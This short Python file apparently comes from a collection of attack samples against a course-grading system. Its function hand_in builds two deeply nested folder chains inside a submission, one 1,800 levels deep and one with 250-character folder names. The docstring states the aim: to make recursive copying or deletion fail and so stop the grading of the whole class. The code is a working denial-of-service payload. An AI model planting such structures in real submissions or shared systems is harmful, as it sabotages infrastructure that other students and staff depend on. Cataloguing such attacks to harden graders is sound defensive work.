"""Hand in two chains of folders: one deeper than a function may call itself, one with a path
longer than the system takes.

Gain: copying or removing the submission fails, and with it the grading of the class.
"""

HARMS = "ends the grading of the class"


def hand_in(folder, course):
    import os

    here = os.getcwd()
    for name, depth in (("a", 1_800), ("b" * 250, 60)):
        os.chdir(folder)
        for _ in range(depth):
            os.mkdir(name)
            os.chdir(name)
        with open("x.txt", "w") as file:
            file.write("x")
    os.chdir(here)
